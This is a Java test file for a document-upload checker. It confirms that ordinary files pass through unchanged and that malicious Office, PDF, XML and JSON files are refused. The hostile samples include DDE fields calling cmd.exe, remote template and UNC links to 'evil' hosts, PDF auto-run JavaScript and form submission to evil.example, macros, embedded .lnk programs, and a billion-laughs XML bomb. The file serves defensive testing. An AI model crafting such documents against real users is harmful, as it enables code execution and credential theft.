package com.mockhu.dm.file.check;

import static com.mockhu.dm.file.type.FileReason.ACTIVE_CONTENT;
import static com.mockhu.dm.file.type.FileReason.CARRIES_PROGRAM;
import static com.mockhu.dm.file.type.FileReason.DAMAGED;
import static com.mockhu.dm.file.type.FileReason.DOCUMENT_TYPE;
import static com.mockhu.dm.file.type.FileReason.MACROS;
import static com.mockhu.dm.file.type.FileReason.REMOTE_CONTENT;
import static com.mockhu.dm.file.type.FileReason.TOO_COMPLEX;
import static com.mockhu.dm.file.type.FileReason.TWO_KINDS;
import static com.mockhu.dm.support.file.PdfFile.dictionary;
import static com.mockhu.dm.support.file.PdfFile.text;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import com.mockhu.dm.file.type.FileReason;
import com.mockhu.dm.support.file.OfficeFile;
import com.mockhu.dm.support.file.Papers;
import com.mockhu.dm.support.file.PdfFile;
import com.mockhu.dm.support.file.Workbooks;
import com.mockhu.dm.support.http.Form;
import com.mockhu.dm.support.person.CampusTest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.junit.jupiter.api.Test;

/** Documents that people have, and those that attackers make. */
class DocumentTest extends CampusTest {
  private static final String SETTINGS = "word/_rels/settings.xml.rels";
  private static final String CHART = "word/charts/_rels/chart1.xml.rels";

  private static Map<String, byte[]> good() {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("newline.pdf", Papers.joined(Papers.text("\r\n"), Papers.pdf()));
    files.put(
        "printer.pdf",
        Papers.joined(Papers.text("\u001B%-12345X@PJL JOB\r\n".repeat(20)), Papers.pdf()));
    files.put("part.pdf", PdfFile.withAction("GoToR", "F", text("chapter2.pdf")));
    files.put("link.pdf", PdfFile.withAction("URI", "URI", text("https://example.org/")));
    files.put("host.pdf", PdfFile.withAction("URI", "URI", text("//example.org/a")));
    files.put("form.pdf", PdfFile.withForm("<xdp><field name='a'/>", "</xdp>"));
    for (String target :
        List.of(
            "file:///C:\\Users\\Mia\\Templates\\Letter.dotx",
            "file:///Users/mia/Library/Normal.dotm",
            "C:\\Program%20Files\\Letter.dotm",
            "Normal.dotm")) {
      files.put(
          "template" + files.size() + ".docx",
          OfficeFile.docx().linking(SETTINGS, "attachedTemplate", target).bytes());
    }
    String workbook = "file:///D:\\Marks\\2026.xlsx";
    files.put("chart.docx", OfficeFile.docx().linking(CHART, "oleObject", workbook).bytes());
    files.put(
        "linked.xlsx",
        OfficeFile.xlsx()
            .linking("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", workbook)
            .with(
                "xl/externalLinks/externalLink1.xml",
                "<externalLink><externalBook/></externalLink>")
            .bytes());
    files.put("links.docx", OfficeFile.docx().withLinks(60_000).bytes());
    files.put("field.docx", OfficeFile.docx().withField(" HYPERLINK ", "&quot;a&quot;").bytes());
    files.put(
        "picture.docx",
        OfficeFile.docx()
            .withField("INCLUDEPICTURE \"C:\\\\Pictures\\\\a.png\" \\* MERGEFORMAT")
            .linking(SETTINGS, "image", "https://example.org/a.png")
            .bytes());
    files.put("twofold.pdf", PdfFile.twofold(" ".repeat(400), "", "/Lang(en)"));
    files.put(
        "inner.docx", OfficeFile.docx().with("word/embeddings/a.xlsx", Papers.xlsx()).bytes());
    files.put("old.doc", Papers.compound("Root Entry", "worddocument"));
    files.put("old.xls", Papers.compound("ROOT ENTRY", "WORKBOOK"));
    files.put("deep.xml", Papers.text("<a>".repeat(900) + "</a>".repeat(900)));
    files.put("signs.xml", Papers.text("<a>" + "&amp;&#65;".repeat(150_000) + "</a>"));
    files.put("wide.xml", Papers.text("<a" + attributes(500) + "/>"));
    for (String start :
        List.of("#!/bin/sh\nls", "<html><p>", " <!DOCTYPE html>", "<?php echo 1;")) {
      files.put("homework" + files.size() + ".txt", Papers.text(start));
    }
    files.put("table.csv", Papers.text("<html>,#!\n1,2\n"));
    files.put("lines.json", Papers.text("{\"a\": 1}\n{\"a\": 2}\n"));
    files.put("config.json", Papers.text("// of the editor\n{\"a\": [1, 2,], /* b */ \"c\": 1}"));
    files.put(
        "figures.json",
        Papers.text("[NaN, Infinity, -Infinity, 1e400, " + "9".repeat(2_000) + "]"));
    return files;
  }

  private static String attributes(int count) {
    StringBuilder all = new StringBuilder();
    for (int i = 0; i < count; i++) {
      all.append(" a").append(i).append("=''");
    }
    return all.toString();
  }

  @Test
  void what_people_have_is_kept_as_it_came() {
    List<String> refused = new ArrayList<>();
    good()
        .forEach(
            (name, content) -> {
              var answer = alice.triesToUpload(Form.files().file(name, content));
              if (answer.status() != 200) {
                refused.add(name + ": " + answer);
                return;
              }
              String url = answer.json().at("/data/attachments/0/url").asText();
              assertArrayEquals(content, alice.downloads(url).body());
            });
    assertEquals(List.of(), refused);
  }

  private record Bad(String name, byte[] content, FileReason reason) {}

  private static List<Bad> bad() {
    List<Bad> files = new ArrayList<>(badPdfs());
    byte[] macros = Papers.compound("Root Entry", "VBA", "dir", "PROJECT");
    files.add(docx(OfficeFile.docx().with("word/picture.bin", macros), MACROS));
    files.add(docx(OfficeFile.docx().withType("application/vnd.ms-office.vba&#80;roject"), MACROS));
    files.add(docx(OfficeFile.docx().withType("application/x.macro&#69;nabled.main+xml"), MACROS));
    files.add(
        docx(
            OfficeFile.docx()
                .withType("application/vnd.ms-office.vbaProject")
                .withTypesIn(StandardCharsets.UTF_16, "<?xml version='1.0' encoding='UTF-16'?>"),
            MACROS));
    files.add(
        docx(
            OfficeFile.docx()
                .withType("application/&m;.main+xml")
                .withTypesIn(
                    StandardCharsets.UTF_8, "<!DOCTYPE Types [<!ENTITY m 'macroEnabled'>]>"),
            DOCUMENT_TYPE));
    files.add(docx(OfficeFile.docx().with("[content_types].XML", types("x.macroEnabled")), MACROS));
    files.add(docx(OfficeFile.docx().relating("vbaProject", "picture.bin"), MACROS));
    files.add(docx(OfficeFile.docx().relating("vba&#80;roject", "picture.bin"), MACROS));
    files.add(docx(OfficeFile.docx().relating("control", "activeX1.xml"), ACTIVE_CONTENT));
    files.add(
        docx(OfficeFile.docx().withType("application/vnd.ms-office.activeX+xml"), ACTIVE_CONTENT));
    files.add(docx(OfficeFile.docx().withField(" DDE", "AUTO c:\\cmd.exe"), ACTIVE_CONTENT));
    files.add(docx(OfficeFile.docx().withField("dde excel"), ACTIVE_CONTENT));
    files.add(
        new Bad(
            "dde.xlsx",
            OfficeFile.xlsx()
                .with(
                    "xl/externalLinks/externalLink1.xml",
                    "<externalLink><ddeLink ddeService='cmd'/></externalLink>")
                .bytes(),
            ACTIVE_CONTENT));
    byte[] inner = OfficeFile.xlsx().with("xl/picture.bin", macros).bytes();
    files.add(docx(OfficeFile.docx().with("word/embeddings/a.xlsx", inner), MACROS));
    byte[] program = Workbooks.carrying("C:\\papers\\invoice.pdf.lnk");
    files.add(docx(OfficeFile.docx().with("word/embeddings/a.bin", program), CARRIES_PROGRAM));
    files.add(new Bad("old.doc", program, CARRIES_PROGRAM));
    files.add(new Bad("old.doc", Papers.compound("R", "WordDocument", "MACROS"), MACROS));
    for (String target :
        List.of(
            "http://evil.example/t.dotm",
            "ftp://evil.example/t.dotm",
            "mhtml:http://evil.example/t",
            "\\\\evil\\t.dotm",
            "file://evil/t.dotm",
            "file:////evil/t.dotm",
            "file:///%5C%5Cevil\\t.dotm",
            "//evil/t.dotm",
            " &#9;\\\\evil@SSL\\t.dotm")) {
      files.add(
          docx(OfficeFile.docx().linking(SETTINGS, "attachedTemplate", target), REMOTE_CONTENT));
      files.add(docx(OfficeFile.docx().linking(CHART, "oleObject", target), REMOTE_CONTENT));
    }
    String picture = "\\\\evil\\a.png";
    files.add(docx(OfficeFile.docx().linking(SETTINGS, "image", picture), REMOTE_CONTENT));
    files.add(
        docx(
            OfficeFile.docx().withField("INCLUDEPICTURE ", "\"\\\\\\\\evil\\\\a.png\" \\d"),
            REMOTE_CONTENT));
    files.add(
        docx(
            OfficeFile.docx().linking(CHART, "oleObject", "file:///C:\\Temp\\a.exe"),
            REMOTE_CONTENT));
    files.add(
        new Bad("deep.xml", Papers.text("<a>".repeat(2_000) + "</a>".repeat(2_000)), TOO_COMPLEX));
    files.add(
        new Bad("deep.json", Papers.text("[".repeat(2_000) + "]".repeat(2_000)), TOO_COMPLEX));
    files.add(new Bad("cut.json", Papers.text("{} {\"a\": "), DAMAGED));
    files.add(new Bad("none.json", Papers.text(" // nothing\n"), DAMAGED));
    files.add(new Bad("laughs.xml", Papers.text(laughs()), DOCUMENT_TYPE));
    return files;
  }

  private static Bad docx(OfficeFile file, FileReason reason) {
    return new Bad("thesis.docx", file.bytes(), reason);
  }

  private static String types(String type) {
    return "<Types><Override PartName='/x' ContentType='" + type + "'/></Types>";
  }

  private static String laughs() {
    StringBuilder type = new StringBuilder("<!DOCTYPE a [<!ENTITY e0 'ha'>");
    for (int i = 1; i < 10; i++) {
      type.append("<!ENTITY e%d '%s'>".formatted(i, ("&e" + (i - 1) + ";").repeat(10)));
    }
    return type + "]><a>&e9;</a>";
  }

  private static List<Bad> badPdfs() {
    COSDictionary media = dictionary("Subtype", COSName.getPDFName("RichMedia"));
    COSDictionary drawing = dictionary("OnInstantiate", text("script"));
    COSDictionary share = dictionary("UF", text("\\\\evil\\a.pdf"));
    return List.of(
        pdf(PdfFile.withAction("SubmitForm", "F", text("https://evil.example/")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("ImportData", "F", text("a.fdf")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("GoToE", "D", text("a")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("GoToR", "F", text("\\\\evil\\a.pdf")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("GoToR", "F", text("//evil/a.pdf")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("GoToR", "F", share), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("URI", "URI", text("file://evil/a")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("URI", "URI", text("\\\\evil\\a")), ACTIVE_CONTENT),
        pdf(PdfFile.withAction("Rendition", "JS", text("app.alert(1)")), ACTIVE_CONTENT),
        pdf(PdfFile.withEntry("Extra", media), ACTIVE_CONTENT),
        pdf(PdfFile.withEntry("Extra", drawing), ACTIVE_CONTENT),
        pdf(
            PdfFile.withForm(
                "<xdp><event><scr",
                "ipt contentType='application/x-javascript'>",
                "a</script></event></xdp>"),
            ACTIVE_CONTENT),
        pdf(PdfFile.withForm("<xdp xmlns:t='t'><t:submit/></xdp>"), ACTIVE_CONTENT),
        pdf(Papers.pdfWithFile("invoice.lnk"), CARRIES_PROGRAM),
        pdf(Papers.pdfWithFile("marks.xlsm"), CARRIES_PROGRAM),
        pdf(Papers.joined(Papers.text("\n"), Papers.pdfWithScript()), ACTIVE_CONTENT),
        pdf(
            PdfFile.twofold(" ".repeat(400), "", "/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"),
            ACTIVE_CONTENT),
        pdf(
            PdfFile.twofold(
                " ".repeat(400), "/OpenAction<</S/SubmitForm/F(https://evil.example/)>>", ""),
            ACTIVE_CONTENT),
        pdf(Papers.joined(Papers.text("MZ\u0000 \r\n"), Papers.pdf()), TWO_KINDS),
        pdf(Papers.joined(Papers.text("\n<html>"), Papers.pdf()), TWO_KINDS));
  }

  private static Bad pdf(byte[] content, FileReason reason) {
    return new Bad("thesis.pdf", content, reason);
  }

  @Test
  void what_attackers_make_is_refused_with_the_reason() {
    List<String> wrong = new ArrayList<>();
    List<Bad> all = bad();
    for (int i = 0; i < all.size(); i++) {
      Bad file = all.get(i);
      var answer = alice.triesToUpload(Form.files().file(file.name(), file.content()));
      JsonNode details = answer.json().at("/error/details");
      if (!details.path("reason_code").asText().equals(file.reason().code())) {
        wrong.add(i + " " + file.name() + " " + file.reason() + ": " + answer);
      }
    }
    assertEquals(List.of(), wrong);
    assertEquals(0, campus.counts("SELECT count(*) FROM uploads"));
  }
}
